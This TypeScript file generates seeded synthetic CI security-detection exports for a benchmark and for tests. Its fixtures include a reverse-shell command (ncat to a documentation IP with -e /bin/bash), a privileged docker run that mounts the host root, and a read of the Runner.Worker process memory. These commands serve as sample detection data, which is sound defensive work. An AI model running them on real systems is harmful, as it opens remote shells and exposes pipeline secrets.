/**
 * Generates realistic exports: a plausible mix of kinds, in the sizes of the vendor's samples (0.6–1.5 KB), always the
 * same for the same seed. For the benchmark, and for tests that need many detections.
 */

/** Returns numbers from 0 up to 1. */
type Random = () => number;

/** A small, fast random number generator (mulberry32): the same seed gives the same export everywhere. */
export function randomOf(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** Share of each kind: network findings dominate because baselines drift; severe findings are rare. */
const COMMONEST = ['New-Outbound-Network-Call', 34] as const;
const MIX: readonly (readonly [id: string, share: number])[] = [
  COMMONEST,
  ['Source-Code-Overwritten', 18],
  ['HTTPS-Outbound-Network-Call', 16],
  ['Domain-Blocked', 12],
  ['Action-Uses-Commit-From-Non-Default-Branch', 5],
  ['Actions-Policy-Blocked', 4],
  ['Privileged-Container', 3],
  ['Secret-In-Build-Log', 3],
  ['Runs-On-Policy-Blocked', 2],
  ['Action-Uses-Imposter-Commit', 1],
  ['Runner-Worker-Memory-Read', 1],
  ['Reverse-Shell', 1],
];
const TOTAL = MIX.reduce((sum, [, share]) => sum + share, 0);

/** One detection as it is exported. */
export interface Generated {
  readonly id: string;
  readonly event_id: string;
  readonly timestamp: string;
  readonly [key: string]: unknown;
}

/** Detections `from` … `to` of the export `seed`, a hundred thousand to a day. */
function* detections(seed: number, from: number, to: number): Generator<Generated> {
  for (let number = from; number < to; number += 1) yield detection(seed, number);
}

export function detection(seed: number, number: number): Generated {
  const random = randomOf(seed * 1_000_003 + number);
  const pick = pickBy(random);
  let share = random() * TOTAL;
  const [id] = MIX.find(([, weight]) => (share -= weight) < 0) ?? COMMONEST;
  const owner = pick(['acme', 'acme-labs', 'example-corp']);
  const repo = `${pick(['web', 'api', 'infra', 'mobile', 'tools', 'data'])}-${Math.floor(random() * 200)}`;
  const workflow = `.github/workflows/${pick(['build', 'release', 'test', 'deploy'])}.yml`;
  const seconds = 1_767_225_600 + Math.floor(number * 0.864);
  const runId = String(16_000_000_000 + Math.floor(number / 3));
  const base = {
    id,
    name: id.replaceAll('-', ' '),
    event_id: uuid(random),
    type: id,
    owner,
    repo,
    workflow_id: `${owner}-${repo}-${workflow.replaceAll('/', '-')}`,
    workflow_path: workflow,
    run_id: runId,
    job_id: String(46_000_000_000 + number),
    job: pick(['build', 'unit-tests', 'publish', 'integration']),
    timestamp: String(seconds),
    id_timestamp: `${id}-${seconds}`,
    html_url: `https://app.stepsecurity.io/github/${owner}/${repo}/actions/runs/${runId}?run_attempt=1`,
    owner_repo: `${owner}/${repo}`,
    is_suppressed: false,
    is_resolved: false,
  };
  return { ...base, ...particulars(id, base, random) };
}

type Base = Readonly<Record<'repo' | 'timestamp' | 'owner_repo' | 'job' | 'run_id', string>>;

const pickBy =
  (random: Random) =>
  (list: readonly string[]): string =>
    list[Math.floor(random() * list.length)] as string;

function particulars(id: string, base: Base, random: Random): object {
  const pick = pickBy(random);
  const host = (): string =>
    `${hex(random, 8)}.${pick(['cdn', 'api', 'mirror', 'registry'])}.example.${pick(['com', 'net', 'org'])}`;
  const process = (exe: string, args: readonly string[]) => ({
    process_events: [
      {
        pid: String(2_000 + Math.floor(random() * 30_000)),
        ppid: String(1_000 + Math.floor(random() * 900)),
        exe,
        working_directory: `/home/runner/work/${base.repo}/${base.repo}`,
        arguments: [exe.split('/').at(-1), ...args],
        timestamp: new Date(Number(base.timestamp) * 1_000 + 374).toISOString(),
      },
    ],
  });
  switch (id) {
    case 'New-Outbound-Network-Call': {
      const endpoint = `${host()}:443`;
      const expected = Array.from({ length: 3 + Math.floor(random() * 12) }, () => `${host()}:443`);
      return {
        endpoint,
        detection: `${id}-${endpoint}`,
        expected_outbound_connections: expected,
        tool: { name: pick(['curl', 'node', 'pip']), sha256: hex(random, 64), parent: 'bash' },
      };
    }
    case 'Domain-Blocked': {
      const endpoint = `${host()}.`;
      return { endpoint, detection: `${id}-${endpoint}` };
    }
    case 'HTTPS-Outbound-Network-Call': {
      const method = pick(['GET', 'POST', 'PUT']);
      return {
        method,
        host: 'api.github.com',
        path: `/repos/${base.owner_repo}/contents/${hex(random, 12)}?ref=main`,
        detection: `${id}-${method}-api.github.com`,
      };
    }
    case 'Source-Code-Overwritten': {
      const file = `${hex(random, 6)}.${pick(['ts', 'go', 'py', 'MD'])}`;
      return {
        file,
        path: `/home/runner/work/${base.repo}/${base.repo}/src/${file}`,
        detection: `${id}-${file}`,
      };
    }
    case 'Secret-In-Build-Log':
      return {
        detection: `${id}-${base.job}-private-key`,
        secret: `----${'*'.repeat(700)}--`,
        line_number: String(Math.floor(random() * 900)),
        rule_id: 'private-key',
        job_name: base.job,
        step_number: '5',
      };
    case 'Privileged-Container':
      return {
        detection: `${id}-${base.job}`,
        ...process('/usr/bin/docker', [
          'run',
          '--privileged',
          '-v',
          '/:/host',
          'registry.example.com/tool:1.2',
          'sh',
        ]),
      };
    case 'Reverse-Shell':
      return {
        detection: `${id}-${base.job}`,
        ...process('/usr/local/bin/ncat', ['203.0.113.7', '17658', '-e', '/bin/bash']),
      };
    case 'Runner-Worker-Memory-Read':
      return {
        detection: `${id}-${base.job}`,
        process_events: [
          {
            pid: '2068',
            exe: 'python3',
            timestamp: '2026-01-01T06:47:07.869380629Z',
            armour_event_process: {
              armour_event_kind: 'FILE_READ',
              timestamp: '2026-01-01T06:47:07.869380629Z',
              file_info: {
                is_write: false,
                current_pid: 2_068,
                current_exe: 'python3',
                target_file: '/proc/1798/mem',
                target_pid: 1_798,
                target_exe: 'Runner.Worker',
              },
              enforced_protection: false,
            },
          },
        ],
      };
    case 'Actions-Policy-Blocked':
      return {
        detection: `${id}-${base.run_id}`,
        actions_not_allowed: ['example/checkout@v3', `example/${hex(random, 6)}@v1`],
      };
    case 'Runs-On-Policy-Blocked':
      return { detection: `${id}-${base.run_id}`, runs_on_labels_not_allowed: ['self-hosted', 'gpu'] };
    default: {
      const sha = hex(random, 40);
      return {
        detection: `${id}-example/action-${sha}`,
        imposter_commit: {
          action: 'example/action',
          tag: 'v1',
          sha,
          timestamp: base.timestamp,
          is_imposter_commit: id.includes('Imposter'),
          is_commit_on_default_branch: false,
        },
      };
    }
  }
}

function hex(random: Random, length: number): string {
  let text = '';
  while (text.length < length)
    text += Math.floor(random() * 0x1_0000_0000)
      .toString(16)
      .padStart(8, '0');
  return text.slice(0, length);
}

function uuid(random: Random): string {
  const text = hex(random, 32);
  return `${text.slice(0, 8)}-${text.slice(8, 12)}-4${text.slice(13, 16)}-a${text.slice(17, 20)}-${text.slice(20)}`;
}

/** Detections as NDJSON text. */
export function ndjson(seed: number, from: number, to: number): string {
  let text = '';
  for (const one of detections(seed, from, to)) text += `${JSON.stringify(one)}\n`;
  return text;
}
